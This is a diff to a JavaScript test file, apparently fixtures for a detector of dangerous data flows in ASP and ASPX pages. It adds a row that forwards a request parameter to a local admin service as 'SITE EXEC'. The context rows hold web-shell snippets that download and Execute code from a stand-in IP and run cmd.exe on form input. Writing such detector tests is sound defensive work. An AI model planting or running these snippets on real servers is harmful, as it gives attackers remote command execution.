@@ -49,6 +49,11 @@ describe('the data flow of pages', () => {
       '<% Function Load(u)\nh.Open "GET", u, False\nh.Send\nLoad = h.responseText\nEnd Function\ncode = Load("http://198.51.100.7/a")\nExecute code %>',
     ],
     [
+      'asp',
+      'passes it on to a service of the host',
+      '<% h.Open "POST", "http://127.0.0.1:" & port & "/admin", False\nh.Send "SITE EXEC " & Request("c") %>',
+    ],
+    [
       'aspx',
       'starts a process with it',
       '<%@ Page Language="C#" %><script runat="server">void Go() { var a = field.Text; Process.Start("cmd.exe", a); }</script>',
